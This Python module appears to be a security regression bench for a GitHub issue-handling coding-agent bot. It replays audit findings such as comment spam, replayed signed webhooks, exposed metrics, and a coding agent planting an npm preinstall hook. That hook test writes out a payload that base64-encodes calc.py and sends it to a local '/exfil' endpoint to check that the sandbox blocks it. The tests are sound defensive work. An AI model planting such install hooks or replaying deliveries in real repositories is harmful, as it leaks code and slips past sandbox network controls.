"""Attacks on who steers Handoff and what it runs with network (security audit 3, rows 33-37
and 39): outsider spam, closing a writer's issue, edit floods, replayed deliveries, open
metrics, and the agent's branch deciding what the next setup runs with network.

Each is a named async function taking the bench's ``Lab`` and returning (blocked, evidence),
listed in ``ATTACKS``; ``bench/security.py`` runs them after its own. They go through signed
webhooks into the real receiver, from the GitHub simulator where the attack is end to end:
nothing is mocked. The steering attacks never touch a sandbox, so their jobs run in the
``local`` backend (fast); the setup attacks use the lab's backend.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import hmac
import json
import os
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import sqlalchemy as sa

from bot import logs
from bot.jobs.schema import jobs as jobs_table
from bot.jobs.store import Store
from bot.receiver.web import create_app
from bot.server import running
from devkit.simulator import Simulator
from devkit.stack import Stack, stack
from handlers import Context

if TYPE_CHECKING:
    from bench.security import Lab

Verdict = tuple[bool, str]
REPO = "acme/calc"
SECRET = "steering-webhook-secret"
ROOT = Path(__file__).resolve().parent.parent
TESTS = "python3 -m pytest -q -p no:cacheprovider"
CALC = {"calc.py": "def add(a, b):\n    return a - b\n",
        "test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
        ".github/handoff.yml": f"test_command: {TESTS}\n"}
FIX = [{"tool": "edit", "args": {"path": "calc.py", "old_text": "return a - b",
                                 "new_text": "return a + b"}}]


def finish(summary: str) -> dict[str, Any]:
    return {"tool": "finish", "args": {"summary": summary}}


def bash(command: str) -> dict[str, Any]:
    return {"tool": "bash", "args": {"command": command}}


def said_to(s: Stack, login: str, *numbers: int) -> list[str]:
    """What Handoff wrote on these issues that names ``login``."""
    repo = s.sim.get_repo(REPO)
    return [c.body for n in numbers for c in repo.issues[n].comments
            if c.user.login != login and f"@{login}" in c.body]


async def wait_stage(s: Stack, stage: str, timeout: float = 60) -> None:
    for _ in range(int(timeout / 0.2)):
        await s.sim.settle()
        if any(j.stage == stage for j in await s.store.list_jobs(10)):
            return
        await asyncio.sleep(0.2)
    raise AssertionError(f"no job reached {stage}")


async def all_ended(s: Stack, number: int, timeout: float = 60) -> None:
    """Wait until every job of the issue has ended and been reported (or let be)."""
    for _ in range(int(timeout / 0.2)):
        await s.sim.settle()
        jobs = [j for j in await s.store.list_jobs(50) if j.issue_number == number]
        if jobs and all(j.state in ("succeeded", "failed", "cancelled") and
                        (j.reported or j.unreportable) for j in jobs):
            return
        await asyncio.sleep(0.2)
    raise AssertionError(f"#{number}'s jobs did not end")


async def quiet_for(s: Stack, seconds: float) -> None:
    """Let the worker answer what came in (it looks every poll)."""
    for _ in range(int(seconds / 0.2)):
        await s.sim.settle()
        await asyncio.sleep(0.2)


async def outsider_comment_spam(lab: Lab) -> Verdict:
    """Audit row 34 (L1): a reader comments `/agent` and `/cancel` again and again, on a
    writer's running job and on an issue of their own; each comment got a bot reply."""
    slow = [bash("sleep 6"), *FIX, finish("add() adds")]
    async with stack(lab.root / "spam", slow, sandbox="local") as s:
        s.sim.add_repo(REPO, CALC)
        s.sim.get_repo(REPO).collaborators.update({"mallory": "read"})
        busy = s.label_new_issue(REPO, "add() subtracts", "Fix add().")
        await wait_stage(s, "agent")
        for command in ["/agent"] * 5 + ["/cancel"] * 3:
            s.sim.comment(REPO, busy, command, "mallory")
        mine = s.sim.open_issue(REPO, "Mine", "do it", "mallory").number
        for _ in range(3):
            s.sim.comment(REPO, mine, "/agent", "mallory")
        await all_ended(s, mine)
        s.sim.comment(REPO, mine, "/agent", "mallory")  # once her job was refused, again
        await all_ended(s, mine)
        job = await s.wait_job(lambda j: j.issue_number == busy)
        await quiet_for(s, 2)
        on_busy, on_mine = said_to(s, "mallory", busy), said_to(s, "mallory", mine)
    evidence = (f"8 comments on a writer's job -> {len(on_busy)} replies to @mallory; 4 "
                f"`/agent` on her own issue -> {len(on_mine)}; the writer's job "
                f"{job.state}")
    return len(on_busy) <= 1 and len(on_mine) <= 1 and job.state == "succeeded", evidence


async def reader_closes_writers_issue(lab: Lab) -> Verdict:
    """Audit row 35 (L2): the issue's author, with read access, closes the issue a writer
    handed over; the running job was cancelled with no permission check."""
    slow = [bash("sleep 5"), *FIX, finish("add() adds")]
    async with stack(lab.root / "close", slow, sandbox="local") as s:
        s.sim.add_repo(REPO, CALC)
        s.sim.get_repo(REPO).collaborators.update({"mallory": "read"})
        number = s.sim.open_issue(REPO, "add() subtracts", "Fix add().", "mallory").number
        s.sim.label_issue(REPO, number, "agent", "acme")
        await wait_stage(s, "agent")
        s.sim.close_issue(REPO, number, "mallory")
        job = await s.wait_job(lambda j: j.issue_number == number)
        told = said_to(s, "mallory", number)
    evidence = f"the writer's job {job.state} ({job.reason or 'no reason'}); @mallory told: " \
               f"{[t[:120] for t in told]}"
    return job.state == "succeeded" and len(told) == 1 and "goes on" in told[0], evidence


@contextlib.asynccontextmanager
async def receiver_and_github(root: Path) -> AsyncIterator[tuple[Simulator, Store, str]]:
    """The receiver (no worker: jobs wait in the queue) and the simulator sending to it."""
    root.mkdir(parents=True, exist_ok=True)
    store = await Store.open(f"sqlite+aiosqlite:///{root / 'handoff.db'}")
    sim = Simulator(root / "github", webhook_secret=SECRET)
    app = create_app(store, SECRET.encode(), Context())
    try:
        async with running(sim.app) as sim_url, running(app) as url:
            sim.base_url = sim_url
            sim.webhook_url = f"{url}/webhook"
            sim.add_repo(REPO, CALC)
            yield sim, store, url
            await sim.settle()
    finally:
        await store.close()


async def edit_flood(lab: Lab) -> Verdict:
    """Audit row 36 (L3): the issue's author edits it 100 times with 60 kB bodies while the
    job waits; every edit was kept whole in the job's row (6 MB)."""
    async with receiver_and_github(lab.root / "edits") as (sim, store, _):
        number = sim.open_issue(REPO, "add() subtracts", "Fix add().", "mallory").number
        sim.label_issue(REPO, number, "agent", "acme")
        await sim.settle()
        for n in range(100):
            sim.edit_issue(REPO, number, "mallory", f"{n:03d} " + "x" * 60_000)
            if n % 20 == 19:
                await sim.settle()
        await sim.settle()
        job = (await store.queued())[0]
    size = len(json.dumps(job.context))
    edits = job.context.get("edits", [])
    latest = edits[-1]["body"][:3] if edits else ""
    evidence = (f"100 edits of 60 kB -> the job's context is {size:,} bytes, {len(edits)} "
                f"edit(s) kept, the latest {latest!r}")
    return size < 200_000 and latest == "099", evidence


def signed(body: bytes, event: str, delivery: str) -> dict[str, str]:
    return {"content-type": "application/json", "x-github-event": event,
            "x-github-delivery": delivery,
            "x-hub-signature-256": "sha256=" + hmac.new(SECRET.encode(), body,
                                                        hashlib.sha256).hexdigest()}


async def replayed_delivery(lab: Lab) -> Verdict:
    """Audit row 37 (L4): a captured `issues.labeled` delivery (body and signature), sent
    again under a new X-GitHub-Delivery after its job ended, queued a new job as its
    original requester; also once the redelivery window has passed."""
    async with receiver_and_github(lab.root / "replay") as (sim, store, url):
        number = sim.open_issue(REPO, "add() subtracts", "Fix add().", "acme").number
        sim.label_issue(REPO, number, "agent", "acme")
        await sim.settle()
        captured = sim.world.deliveries[-1]
        first = (await store.queued())[0]
        await store.write(lambda conn: conn.execute(jobs_table.update().where(  # as if it ran
            jobs_table.c.id == first.id).values(state="succeeded", finished_at=1.0)))
        answers = []
        async with httpx.AsyncClient() as client:
            for step in ("replay", "aged", "github"):
                if step == "aged":  # past the window: the body's digest is forgotten
                    with contextlib.suppress(sa.exc.OperationalError):  # (no such table)
                        await store.write(lambda conn: conn.execute(
                            sa.text("UPDATE payloads SET received_at = 0")))
                delivery = captured.guid if step == "github" else str(uuid.uuid4())
                answer = await client.post(f"{url}/webhook", content=captured.payload,
                                           headers=signed(captured.payload, "issues", delivery))
                answers.append(f"{step} {answer.status_code} {answer.json().get('detail')}")
        replayed = len(await store.list_jobs(10)) - 1
        # A writer who labels the issue again (a new body: GitHub's updated_at moved on, to
        # the second) still starts a job.
        await asyncio.sleep(1.1)
        sim.unlabel_issue(REPO, number, "agent", "acme")
        sim.label_issue(REPO, number, "agent", "acme")
        await sim.settle()
        relabel = [j for j in await store.queued() if j.issue_number == number]
    evidence = (f"jobs queued by the replays: {replayed}; answers: {answers}; a real relabel "
                f"queued {len(relabel)}")
    return replayed == 0 and len(relabel) == 1 and answers[-1].startswith("github 200"), \
        evidence


async def metrics_on_webhook_port(lab: Lab) -> Verdict:
    """Audit row 39 (L5): `GET /metrics` on the public webhook port, without credentials,
    told deliveries, jobs by state and the rate limit left. `handoff serve` as deployed in a
    container (HOST 0.0.0.0), with METRICS_PORT set."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HANDOFF_")}
    env.update(PYTHONPATH=str(ROOT), HANDOFF_PORT="0", HANDOFF_HOST="0.0.0.0",
               HANDOFF_METRICS_PORT="0", HANDOFF_WEBHOOK_SECRET=SECRET,
               HANDOFF_DATA_DIR=str(lab.root / "metrics-data"))
    proc = subprocess.Popen([sys.executable, "-m", "bot.cli", "serve", "--no-worker"],
                            cwd=lab.root, env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stderr is not None
        lines: list[str] = []
        while len(found := logs.listeners(lines)) < 2 and (not lines or lines[-1]):
            lines.append(await asyncio.to_thread(proc.stderr.readline))
        port = found["webhook"].rsplit(":", 1)[1]
        metrics = f"{found['metrics']}/metrics" if "metrics" in found else ""
        async with httpx.AsyncClient(timeout=10) as client:
            public = await client.get(f"http://127.0.0.1:{port}/metrics")
    finally:
        proc.terminate()
        proc.wait(30)
        if proc.stderr is not None:
            proc.stderr.close()
    evidence = (f"GET /metrics on the webhook port: {public.status_code}"
                f"{' (deliveries and jobs shown)' if 'handoff_' in public.text else ''}; "
                f"metrics served at {metrics or 'nowhere'}")
    return public.status_code == 404 and metrics.startswith("http://127.0.0.1:"), evidence


async def preinstall_reaches_allowed_host(lab: Lab, plant_script: bool) -> Verdict:
    """Audit row 33 (M1): the default branch installs with `npm install`; the agent's first
    iteration makes the package's install run its own code (a `preinstall` it adds to
    `package.json`, or with ``plant_script`` False the code of the `preinstall` the default
    branch already has); on `/retry` that code ran with egress and sent `calc.py` to an
    allowed host."""
    async with lab.http_server("registry") as port:
        exfil = ("import base64, urllib.request\nsrc = base64.b64encode(open('calc.py', 'rb')"
                 ".read()).decode()\nurllib.request.urlopen(f'http://127.0.0.1:"
                 f"{port}/exfil?src={{src}}', timeout=10)\n")
        package = {"name": "calc", "version": "1.0.0",
                   "dependencies": {"localdep": "file:./localdep"}}
        files = {**CALC, "localdep/package.json": '{"name": "localdep", "version": "1.0.0"}\n',
                 "tools/pre.py": "print('preinstall ok')\n"}
        plant = f"mkdir -p tools && printf %s {_quote(exfil)} > tools/pre.py"
        if plant_script:
            planted = {**package, "scripts": {"preinstall": "python3 tools/pre.py"}}
            plant += f" && printf %s {_quote(json.dumps(planted, indent=2))} > package.json"
        else:  # the default branch has the preinstall; the branch changes only its script
            package["scripts"] = {"preinstall": "python3 tools/pre.py"}
        files["package.json"] = json.dumps(package, indent=2) + "\n"
        script = [bash(plant), *FIX, finish("add() adds"),
                  {"tool": "create", "args": {"path": "NOTES.md", "content": "retried\n"}},
                  finish("notes"), finish("notes")]  # shown the file it added, it keeps it
        name = "planted" if plant_script else "changed-script"
        async with stack(lab.root / f"setup-{name}", script, sandbox=lab.backend_name,
                         egress_allow=[f"127.0.0.1:{port}"], egress_allow_private=True,
                         command_timeout=120) as s:
            s.sim.add_repo(REPO, files)
            first = await s.handed_over(REPO, "add() subtracts", "Fix add().")
            pr = next((i for i in s.sim.get_repo(REPO).issues.values() if i.pull), None)
            if pr is None:
                return False, f"the first iteration opened no PR: {first.state} {first.reason}"
            s.sim.comment(REPO, pr.number, "/retry note it", "acme")
            retry = await s.wait_job(lambda j: j.kind == "retry", timeout=180)
            body = s.sim.get_repo(REPO).issues[pr.number].body
    stolen = [h for h in lab.hits[port] if "/exfil" in h]
    offline = "Without network" in body
    evidence = (f"the allowed host got {stolen[:1] or 'nothing'}; retry {retry.state}; setup "
                f"`{retry.result.setup.command}`"
                + (f"; the PR says: {retry.result.setup.offline}" if offline else ""))
    return not stolen and retry.state == "succeeded" and offline == plant_script, evidence


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


async def setup_runs_a_preinstall_the_branch_added(lab: Lab) -> Verdict:
    """Row 33 as the audit ran it: the branch adds a `preinstall` (it runs offline now)."""
    return await preinstall_reaches_allowed_host(lab, plant_script=True)


async def setup_runs_the_default_preinstall_s_changed_file(lab: Lab) -> Verdict:
    """Row 33, round the manifest check: the default branch's own `preinstall` runs a file
    the branch changed (install scripts never run now)."""
    return await preinstall_reaches_allowed_host(lab, plant_script=False)


ATTACKS: list[Callable[[Lab], Awaitable[Verdict]]] = [
    outsider_comment_spam,
    reader_closes_writers_issue,
    edit_flood,
    replayed_delivery,
    metrics_on_webhook_port,
    setup_runs_a_preinstall_the_branch_added,
    setup_runs_the_default_preinstall_s_changed_file,
]
